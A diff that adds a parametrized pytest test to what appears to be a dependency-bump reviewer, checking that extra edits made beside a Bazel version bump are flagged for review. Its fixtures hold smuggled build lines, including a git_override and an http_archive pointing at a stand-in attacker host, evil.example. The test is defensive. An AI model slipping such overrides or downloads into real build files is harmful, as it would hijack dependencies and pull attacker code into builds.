@@ -135,6 +135,21 @@ def test_a_bazel_override_change_is_a_problem(tmp_path: Path) -> None:
     assert [(p.manifest, p.kind) for p in tree.problems] == [("MODULE.bazel", "partial")]
 
 
+@pytest.mark.parametrize("beside", [
+    'x = 1; bazel_dep(name = "evil", version = "1.0")',  # a second statement on a line
+    'x = 1; git_override(module_name = "rules_cc", remote = "https://evil.example/rules_cc")',
+    'http_archive = use_repo_rule("@bazel_tools//tools/build_defs/repo:http.bzl", "http_archive")\n'
+    'http_archive(name = "evil", urls = ["https://evil.example/evil.tar.gz"])',  # a download the delta does not read
+])
+def test_a_bazel_edit_beside_a_bump_does_not_ride_on_it(tmp_path: Path, beside: str) -> None:
+    """MODULE.bazel is a program: anything beyond the bazel_dep calls and versions it reads is reviewed, never
+    explained by the ordinary bump made beside it."""
+    old = 'bazel_dep(name = "rules_cc", version = "0.0.9")'
+    new = f'bazel_dep(name = "rules_cc", version = "0.0.10")\n{beside}'
+    tree, _ = _bump(tmp_path, {"MODULE.bazel": MODULE_BAZEL}, {"MODULE.bazel": (old, new)})
+    assert [(p.manifest, p.kind) for p in tree.problems] == [("MODULE.bazel", "partial")]
+
+
 @pytest.mark.parametrize("call", [
     'bazel_dep(name = RULES_CC, version = "1.0")',  # a variable, not a literal
     'bazel_dep(name = "x", version = "1" + "0")',
